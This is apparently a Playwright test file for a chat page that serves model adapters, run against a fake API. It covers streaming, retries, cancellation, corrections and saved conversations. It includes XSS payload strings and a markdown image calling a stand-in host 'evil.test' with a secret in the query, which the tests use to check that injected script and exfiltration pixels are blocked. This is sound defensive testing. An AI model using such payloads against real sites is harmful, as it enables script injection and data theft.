"""The browser page in a real, headless Chromium, before a server that fails on demand; test_road.py has a real one."""

from __future__ import annotations

import json
import re
from collections.abc import Callable

import pytest
from browser import (
    COUNT_TEXTS,
    PHONE,
    ask,
    ask_and_wait,
    box,
    button,
    correct_and_clear,
    needs_browser,
    note,
    pick,
    picker,
    sent,
    wait_for_requests,
)
from fake_api import MODELS, FakeApi
from playwright.sync_api import Browser, Page, expect

pytest_plugins = ["browser_fixtures"]
pytestmark = needs_browser

FAILURES = {
    "404": "the model 'captain' does not exist here",
    "500": "the server failed unexpectedly",
    "drop": "broke before the answer was complete",
    "error event": "the engine stopped.",
}
"""question to the fake API -> what the page says of the failure"""
PAYLOADS = ["<img src=x onerror='hacked = 1'>", "<script>hacked = 2</script>", "[click](javascript:hacked=3)"]


def test_answer_is_seen_growing_and_ends_with_who_gave_it(page: Page) -> None:
    page.evaluate(COUNT_TEXTS)
    ask(page, "long")
    expect(note(page, re.compile(r"captain · \d+\.\d tok/s · .+ to first token"))).to_be_visible()
    assert len(page.evaluate("() => [...window.seen].filter(Boolean)")) >= 5


def test_switching_the_adapter_sends_the_turns_but_no_notes(page: Page, api: FakeApi) -> None:
    ask_and_wait(page, "one")
    pick(page, "trivia")
    ask_and_wait(page, "two", "trivia")
    assert api.requests()[-1]["body"]["model"] == "trivia"
    assert [message["content"] for message in sent(api)] == ["one", "captain says: one", "two"]
    expect(note(page, "captain · ")).to_have_count(1)
    expect(note(page, "trivia · ")).to_have_count(1)


def test_failure_is_a_message_that_can_be_retried(page: Page, api: FakeApi) -> None:
    for number, (question, said) in enumerate(FAILURES.items()):
        ask(page, question)
        expect(note(page, "captain could not answer").nth(number)).to_contain_text(said)
        expect(box(page)).to_be_enabled()
    button(page, "Retry").click()
    wait_for_requests(page, f"requests.length == {len(FAILURES) + 1}")
    assert sent(api)[-1] == {"role": "user", "content": question}


def test_answer_after_a_retry_takes_the_place_of_the_failure(page: Page, api: FakeApi) -> None:
    ask(page, "500 once")
    expect(note(page, "captain could not answer")).to_be_visible()
    page.get_by_role("button", name="Retry").click()
    expect(note(page, "captain · ")).to_be_visible()
    expect(note(page, "could not answer")).to_have_count(0)
    ask_and_wait(page, "next")
    assert [message["content"] for message in sent(api)] == ["500 once", "captain says: 500 once", "next"]


@pytest.mark.parametrize("how", ["button", "Escape"])
def test_stop_cancels_upstream_and_keeps_what_came(page: Page, api: FakeApi, how: str) -> None:
    ask(page, "slow")
    expect(page.locator("#chat .bot").filter(has_text="and 3")).to_be_visible()
    page.keyboard.press(how) if how == "Escape" else page.get_by_role("button", name="Stop").click()
    expect(note(page, "captain · stopped")).to_be_visible()
    wait_for_requests(page, "requests[0].is_cancelled")
    ask_and_wait(page, "next")
    assert sent(api)[1]["content"].startswith("captain says: slow and 0 and 1 and 2 and 3")


def test_closing_the_page_cancels_upstream(page: Page, api: FakeApi, open_page: Callable[..., Page]) -> None:
    other = open_page(api.url)
    ask(page, "slow")
    expect(page.locator("#chat .bot").filter(has_text="and 3")).to_be_visible()
    page.close()
    wait_for_requests(other, "requests[0].is_cancelled")


def test_enter_while_an_answer_comes_leaves_the_text_in_the_box(page: Page, api: FakeApi) -> None:
    ask(page, "slow")
    expect(page.get_by_role("button", name="Stop")).to_be_visible()
    box(page).fill("next")
    box(page).press("Enter")
    box(page).press("Escape")
    expect(note(page, "captain · stopped")).to_be_visible()
    expect(box(page)).to_have_value("next")
    assert len(api.requests()) == 1


def test_empty_message_is_not_sent(page: Page, api: FakeApi) -> None:
    ask(page, " ")
    ask_and_wait(page, "one")
    assert len(api.requests()) == 1


def test_ctrl_k_goes_to_the_adapters(page: Page) -> None:
    box(page).press("Control+k")
    expect(picker(page)).to_be_focused()


def test_undo_gives_the_question_back(page: Page, api: FakeApi) -> None:
    ask_and_wait(page, "one")
    ask_and_wait(page, "two")
    page.get_by_role("button", name="Undo").click()
    expect(box(page)).to_have_value("two")
    expect(page.get_by_text("captain says: two")).to_have_count(0)
    ask_and_wait(page, "three")
    assert [message["content"] for message in sent(api)] == ["one", "captain says: one", "three"]


def test_edited_question_is_asked_instead(page: Page, api: FakeApi) -> None:
    ask_and_wait(page, "one")
    ask_and_wait(page, "two")
    page.get_by_role("button", name="Edit").first.click()
    page.locator("#chat textarea").fill("uno")
    page.get_by_role("button", name="Submit").click()
    expect(page.get_by_text("captain says: uno", exact=True)).to_be_visible()
    assert [message["content"] for message in sent(api)] == ["uno"]


def test_clear_starts_anew(page: Page, api: FakeApi) -> None:
    ask_and_wait(page, "one")
    button(page, "Conversations").click()
    kept = page.get_by_role("combobox", name="Kept in this browser")
    expect(kept).to_have_value("one")
    page.get_by_role("button", name="Clear").click()
    expect(page.get_by_text("captain says: one")).to_have_count(0)
    expect(kept).to_have_value("")  # what follows is another conversation
    ask_and_wait(page, "two")
    assert [message["content"] for message in sent(api)] == ["two"]


def test_settings_are_sent(page: Page, api: FakeApi) -> None:
    page.get_by_role("button", name="Settings").click()
    page.get_by_role("textbox", name="System prompt").fill("Be brief.")
    page.get_by_role("spinbutton", name="Temperature").fill("0")
    page.get_by_role("spinbutton", name="Max tokens").fill("9")
    ask_and_wait(page, "one")
    body = api.requests()[0]["body"]
    assert body["messages"][0] == {"role": "system", "content": "Be brief."}
    assert (body["temperature"], body["top_p"], body["max_tokens"]) == (0, 0.9, 9)


def test_indentation_of_an_answer_is_kept(page: Page, api: FakeApi) -> None:
    ask(page, "one\n    two")
    expect(note(page, "tok/s")).to_be_visible()
    ask_and_wait(page, "next")
    assert sent(api)[1]["content"] == "captain says: one\n    two"


def test_markdown_code_and_formulas_are_drawn(page: Page) -> None:
    ask(page, "so:\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nx = 1\n```\n\nand \\(a^2\\)")
    expect(note(page, "tok/s")).to_be_visible()
    answer = page.locator("#chat .bot")
    expect(answer.get_by_role("cell", name="2")).to_be_visible()
    expect(answer.locator("pre code")).to_contain_text("x = 1")
    expect(answer.locator(".katex").first).to_be_visible()


def test_html_of_question_and_answer_does_nothing(page: Page) -> None:
    for number, payload in enumerate(PAYLOADS, 1):
        ask(page, f"say {payload}")
        expect(note(page, "tok/s")).to_have_count(number)
    for link in page.locator("#chat a").all():
        link.click()
    assert page.evaluate("() => window.hacked") is None


def test_picture_from_another_host_is_not_fetched(page: Page) -> None:
    ask(page, "![secret](http://evil.test/pixel.png?q=secret)")
    expect(note(page, "tok/s")).to_be_visible()
    expect(page.locator("#chat .bot img[src*='evil.test']")).to_have_count(1)
    pick(page, "trivia")
    expect(page.locator("#card")).to_contain_text("![](http://evil.test/x.png)")
    expect(page.locator("#card").get_by_role("link")).to_have_count(0)


def test_phone_shows_everything_without_scrolling_sideways(
    browser: Browser, open_page: Callable[..., Page], api: FakeApi
) -> None:
    with browser.new_context(viewport=PHONE, has_touch=True, is_mobile=True) as phone:
        page = open_page(api.url, "?adapter=captain", context=phone)
        expect(picker(page)).to_have_value("captain")
        expect(box(page)).to_be_in_viewport(ratio=1)
        ask_and_wait(page, "one " + "two" * 30)
        assert page.evaluate("() => document.documentElement.scrollWidth") == PHONE["width"]
        expect(page.get_by_role("textbox", name="System prompt")).to_be_hidden()
        expect(page.locator("#card")).to_be_hidden()


def test_card_shows_what_the_package_says(page: Page) -> None:
    card = page.locator("#card")
    for fact in ("tiny-base", "lora, rank 8", "apache-2.0", "sha256:0123456789ab", "sea_tales", "3.210", "1.090"):
        expect(card).to_contain_text(fact)


def test_picking_changes_card_and_address(page: Page) -> None:
    picker(page).click()
    options = page.get_by_role("option")
    expect(options).to_have_text([re.compile(r"tiny-base \(base\)"), re.compile("captain"), re.compile("trivia")])
    options.first.click()
    expect(page.locator("#card")).to_contain_text("The base model alone")
    expect(page).to_have_url(re.compile(r"\?adapter=tiny-base$"))


def test_deep_link_to_a_missing_adapter_is_reported(open_page: Callable[..., Page], api: FakeApi) -> None:
    page = open_page(api.url, "?adapter=kaptain")
    expect(page.locator("#card")).to_contain_text("this server has no adapter kaptain")
    expect(picker(page)).to_have_value("tiny-base (base)")


def test_controls_have_names_and_none_is_too_many(page: Page) -> None:
    page.get_by_role("button", name="Settings").click()
    ask_and_wait(page, "one")
    expect(page.get_by_role("button", name=re.compile("share", re.IGNORECASE))).to_have_count(0)
    expect(page.get_by_role("heading", level=1)).to_have_text("adapterhub")
    for name in ("Temperature", "Top-p", "Max tokens"):
        expect(page.get_by_role("spinbutton", name=name)).to_be_visible()


def test_retry_with_another_adapter_replaces_the_answer(page: Page, api: FakeApi) -> None:
    ask_and_wait(page, "one")
    pick(page, "trivia")
    button(page, "Retry").click()
    expect(page.get_by_text("trivia says: one", exact=True)).to_be_visible()
    expect(page.get_by_text("captain says: one", exact=True)).to_have_count(0)
    assert sent(api) == [{"role": "user", "content": "one"}]


def test_two_adapters_answer_together_at_their_strengths(page: Page, api: FakeApi) -> None:
    button(page, "Mix two adapters").click()
    page.get_by_role("combobox", name="Together with").click()
    expect(page.get_by_role("option", name="tiny-base")).to_have_count(0)
    page.get_by_role("option", name="trivia").click()
    page.get_by_role("spinbutton", name="Scale of the first").fill("0.75")
    ask(page, "one")
    expect(note(page, "captain × 0.75 + trivia × 0.5 · ")).to_be_visible()
    assert api.requests()[0]["body"]["adapter"] == [
        {"name": "captain", "scale": 0.75},
        {"name": "trivia", "scale": 0.5},
    ]


def test_thumb_is_sent_with_what_was_read_and_who_answered(page: Page, api: FakeApi) -> None:
    ask_and_wait(page, "one")
    button(page, "Dislike").click()
    expect(page.locator("#said")).to_contain_text("thumb down stored")
    (posted,) = api.posted()
    assert (posted["kind"], posted["thumb"]) == ("thumb", "down")
    assert posted["messages"] == [{"role": "user", "content": "one"}]
    assert posted["answer"] == {"model": "captain", "digest": MODELS[1]["digest"], "text": "captain says: one"}


def test_correction_is_sent_and_the_conversation_continues_from_it(page: Page, api: FakeApi) -> None:
    ask_and_wait(page, "one")
    button(page, "Say what it should have said").click()
    wording = page.get_by_role("textbox", name="What it should have said")
    expect(wording).to_have_value("captain says: one")
    button(page, "Save correction").click()
    expect(page.locator("#said")).to_contain_text("change it, then save")
    wording.fill("Aye: one.")
    button(page, "Save correction").click()
    expect(note(page, "captain · corrected by you")).to_be_visible()
    (posted,) = api.posted()
    assert (posted["kind"], posted["text"], posted["answer"]["text"]) == (
        "correction",
        "Aye: one.",
        "captain says: one",
    )
    ask_and_wait(page, "two")
    assert sent(api)[1] == {"role": "assistant", "content": "Aye: one."}


def test_text_typed_as_soon_as_the_box_opens_stays(page: Page, api: FakeApi) -> None:
    for number in range(8):
        ask_and_wait(page, f"q{number}")
        correct_and_clear(page)
    assert [posted["text"] for posted in api.posted()] == [f"Aye, mate! captain says: q{n}" for n in range(8)]


def test_conversation_is_saved_as_json_and_markdown(page: Page) -> None:
    ask_and_wait(page, "one")
    pick(page, "trivia")
    ask_and_wait(page, "two", "trivia")
    button(page, "Conversations").click()
    with page.expect_download() as saved:
        button(page, "Save as JSON").click()
    found = json.loads(saved.value.path().read_text())
    assert saved.value.suggested_filename == "one.json"
    assert [message["content"] for message in found["messages"]] == [
        "one",
        "captain says: one",
        "two",
        "trivia says: two",
    ]
    assert [answer["model"] for answer in found["answered_by"]] == ["captain", "trivia"]
    with page.expect_download() as saved:
        button(page, "Save as Markdown").click()
    assert "**captain** `sha256:0123456789ab`\n\ncaptain says: one\n" in saved.value.path().read_text()


def test_conversations_outlive_the_server_and_the_page(
    browser: Browser, open_page: Callable[..., Page], api: FakeApi
) -> None:
    with browser.new_context() as visitor:
        page = open_page(api.url, "?adapter=captain", context=visitor)
        expect(picker(page)).to_have_value("captain")
        ask_and_wait(page, "one")
        button(page, "Conversations").click()
        kept = page.get_by_role("combobox", name="Kept in this browser")
        expect(kept).to_have_value("one")
        button(page, "New").click()
        expect(kept).to_have_value("")
        ask_and_wait(page, "other")
        expect(kept).to_have_value("other")
        api.restart()
        page.reload()
        button(page, "Conversations").click()
        kept.click()
        for title in ("one", "other"):
            expect(page.get_by_role("option", name=title, exact=True)).to_have_count(1)
        page.get_by_role("option", name="one", exact=True).click()
        expect(page.get_by_text("captain says: one", exact=True)).to_be_visible()
        ask_and_wait(page, "two", "captain")
        assert [message["content"] for message in sent(api)] == ["one", "captain says: one", "two"]
        button(page, "Delete").click()
        expect(page.get_by_text("captain says: one", exact=True)).to_have_count(0)
        expect(kept).to_have_value("")
        kept.click()
        expect(page.get_by_role("option", name="other", exact=True)).to_have_count(1)
        expect(page.get_by_role("option", name="one", exact=True)).to_have_count(0)


@pytest.mark.parametrize("turned_by", ["New", "Delete"])
def test_turning_to_another_conversation_ends_the_answer(page: Page, api: FakeApi, turned_by: str) -> None:
    ask_and_wait(page, "one")
    ask(page, "slow")
    expect(page.locator("#chat .bot").filter(has_text="and 3")).to_be_visible()
    button(page, "Conversations").click()
    button(page, turned_by).click()
    wait_for_requests(page, "requests[1].is_cancelled")
    expect(button(page, "Send")).to_be_visible()
    expect(page.locator("#chat .message")).to_have_count(0)
    ask_and_wait(page, "next")
    assert [message["content"] for message in sent(api)] == ["next"]
